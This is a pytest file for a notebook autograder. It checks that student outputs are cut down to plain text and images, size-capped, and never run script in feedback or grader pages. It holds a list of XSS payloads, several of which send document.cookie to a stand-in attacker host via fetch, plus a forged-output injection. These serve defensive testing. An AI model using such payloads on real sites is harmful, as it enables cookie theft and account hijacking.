"""What a notebook shows reaches nobody's browser but as plain text and checked pictures."""

import json

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

from autograder.grading.outputs import Room, clean_outputs
from autograder.records.autograded import autograded_notebook

from .arena import known_cells

PWN = "window.__pwned = 1; fetch('https://evil.invalid/' + document.cookie)"
PAYLOADS = [
    f"<script>{PWN}</script>",
    f'<img src=x onerror="{PWN}">',
    f'<svg onload="{PWN}"><script>{PWN}</script></svg>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<details open ontoggle="{PWN}">x</details>',
    f"</pre></code></textarea></style><script>{PWN}</script>",
    f"]]>--><script>{PWN}</script>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    '<img src="https://evil.invalid/pixel.png"><link rel=stylesheet href="https://evil.invalid/x.css">',
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    '<form action="https://evil.invalid/"><button autofocus onfocus="window.__pwned = 1">x</button></form>',
    f"\x1b]8;;javascript:{PWN}\x07link\x1b]8;;\x07",
]
SHOW = """
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display
import ipywidgets
payloads = PAYLOADS
for text in payloads:
    print(text)
    for kind in (HTML, Javascript, Latex, Markdown): display(kind(text))
    display({'text/html': text, 'text/plain': text, 'image/svg+xml': text, 'application/javascript': text,
             'application/vnd.jupyter.widget-view+json': {'model_id': text}, 'text/latex': text,
             'image/png': text, 'application/pdf': text}, raw=True)
"""
MORE = """
display(ipywidgets.HTML(payloads[0]))
display(Latex(r'$\\\\href{javascript:window.__pwned=1}{x} \\\\unicode{<script>}$'))
class Evil:
    def __repr__(self): return payloads[0]
    def _repr_html_(self): return payloads[0]
    def _repr_mimebundle_(self, **k): return {'text/html': payloads[1], 'text/plain': payloads[1]}
display(Evil())
error = type('<img src=x onerror=window.__pwned=1>', (Exception,), {})
raise error(payloads[0])
"""
RAISES = "def momentum(grad, theta0, alpha, mu, steps):\n    raise ValueError('<script>window.__pwned = 1</script>')\n"
LABELS = "diagnosis = {'A': '<script>window.__pwned = 1</script>', 'B': ['<script>'], '<script>': 1}"
WORDS = "\n\n".join(
    [*PAYLOADS, f"[x](javascript:{PWN})", r"$\href{javascript:window.__pwned=1}{x}$ $$\require{html}\class{x}{y}$$"]
)


@pytest.fixture(scope="module")
def hostile(arena):
    """A notebook that shows, raises and says every payload, and its Result."""
    answers = {"momentum": RAISES, "diagnosis": LABELS, "explain": WORDS}
    code = SHOW.replace("PAYLOADS", repr(PAYLOADS))

    def split(notebook):
        index = next(i for i, cell in enumerate(notebook["cells"]) if cell["source"] == code)
        notebook["cells"].insert(index + 1, {**notebook["cells"][index], "source": MORE})

    data = arena.made(code, answers=answers, change=split)
    return data, arena.attack_with(data)


def test_only_text_and_pictures_are_kept(hostile):
    """row-58-javascript-widgets-latex"""
    _, result = hostile
    kept = {kind for outputs in result.outputs.values() for o in outputs for kind in o.get("data", {})}
    assert kept <= {"text/plain", "image/png"}
    for outputs in result.outputs.values():
        nbformat.validate({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
            {"cell_type": "code", "id": "x", "metadata": {}, "source": "", "outputs": outputs, "execution_count": None}
        ]})  # fmt: skip
    assert "\x1b" not in str(result.outputs)


GIANTS = {
    "row-40-one-line": "print('x' * 10**8)",
    "row-40-many-lines": "for _ in range(10**5): print('x' * 99)",
    "row-40-many-displays": "for i in range(10**4): display(i)",
    "row-40-error": "raise ValueError('x' * 10**8)",
    "row-40-display": "display({'text/plain': 'x' * 10**8}, raw=True)",
    "row-40-repr": "class Big:\n    def __repr__(self): return 'x' * 10**8\nBig()",
    "new-outputs-forged-on-the-line": "import os\nfrom sandbox_worker.wire import encode\n"
    "text = [{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 99_999}] * 100\n"
    "for number in range(9): os.write(3, encode({'id': number, 'kind': 'outputs', 'outputs': text}))",
}


@pytest.mark.parametrize("code", GIANTS.values(), ids=GIANTS.keys())
def test_outputs_are_cut(arena, shown_by, code):
    assert len(shown_by(arena.attack(code))) < 25_000


def test_a_notebooks_outputs_have_one_bound_together():
    """new-many-cells-with-pictures"""
    room = Room()
    text = [{"output_type": "stream", "name": "stdout", "text": "x" * 20_000}] * 3
    total = sum(len(str(clean_outputs(text, room))) for _ in range(2000))
    assert total < 1_500_000


@pytest.fixture(scope="module")
def opened(browser):
    """Return a function that opens a page in Chromium and tells what it tried to do."""

    def look(html, folder):
        (folder / "page.html").write_text(html)
        page, deeds = browser.new_page(), []
        page.on("dialog", lambda dialog: (deeds.append("dialog"), dialog.dismiss()))
        page.on("request", lambda asked: deeds.append(asked.url) if "evil" in asked.url else None)
        page.on("popup", lambda popup: deeds.append("popup"))
        page.route("http*://**", lambda route: route.abort())
        page.goto((folder / "page.html").as_uri(), wait_until="domcontentloaded")
        for link in page.locator("a[href^='javascript'], a[href^='data']").all():
            deeds.append(link.get_attribute("href"))
        page.wait_for_timeout(300)
        if page.evaluate("window.__pwned"):
            deeds.append("pwned")
        page.close()
        return deeds

    return look


def test_the_browser_notices_an_attack_that_works(opened, tmp_path):
    """The look itself is tested, with pages that nobody has cleaned."""
    assert "pwned" in opened(f"<p>{PAYLOADS[0]}</p>", tmp_path)
    assert "pwned" in opened(f"<p>{PAYLOADS[1]}</p>", tmp_path)
    assert opened(PAYLOADS[8], tmp_path) != []


def test_no_script_of_a_student_runs_in_the_feedback(arena, hostile, opened, tmp_path):
    """row-57-script-in-feedback"""
    page = arena.pages(hostile[1])["feedback.html"]
    assert "__pwned" in page  # it is there, as text
    assert opened(page, tmp_path) == []
    without_policy = page.replace("Content-Security-Policy", "Nothing")
    assert opened(without_policy, tmp_path) == []  # neither does it hang on the browser's help


def test_no_script_of_a_student_runs_for_the_graders(arena, hostile, opened, tmp_path):
    """row-57-script-in-formgrader: the notebook as formgrader's exporter shows it, with the course's settings."""
    _, result = hostile
    notebook = autograded_notebook("momentum", result, known_cells())
    notebook = nbformat.reads(json.dumps(notebook), as_version=4)
    config = Config()
    config.TemplateExporter.filters = {"markdown2html": "autograder.hooks.safe_markdown.markdown"}
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook)
    assert "__pwned" in page
    assert opened(page, tmp_path) == []
    unclean, _ = HTMLExporter().from_notebook_node(notebook)
    assert opened(unclean, tmp_path) != []  # without the course's settings it would have
